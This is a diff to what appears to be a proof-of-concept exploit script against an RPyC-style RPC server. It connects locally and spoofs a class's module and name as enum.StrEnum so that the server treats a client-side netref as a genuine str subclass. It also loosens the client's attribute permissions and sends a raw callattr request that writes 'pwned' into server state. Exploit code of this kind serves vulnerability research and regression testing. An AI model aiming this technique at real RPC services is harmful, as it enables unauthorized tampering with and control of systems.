@@ -120,7 +120,12 @@ class Name(enum.StrEnum):
         calls.append("__radd__")
         return "__setattr__"
 
+# Named like the server's own enum.StrEnum, so the netref's __class__ resolves to that str
+# subclass on the server and isinstance(name, str) holds there.
+Name.__module__, Name.__name__, Name.__qualname__ = "enum", "StrEnum", "StrEnum"
 c = connect("127.0.0.1", int(sys.argv[1]), token=sys.argv[2])
+# The attacker's own end answers every attribute request of the server.
+c._conn._config.update(allow_all_attrs=True, allow_public_attrs=True, allow_setattr=True)
 try:
     c._conn.sync_request(consts.HANDLE_CALLATTR, c._conn.root, Name.INFO,
                          ("_info", (("engine", "pwned"),)), ())
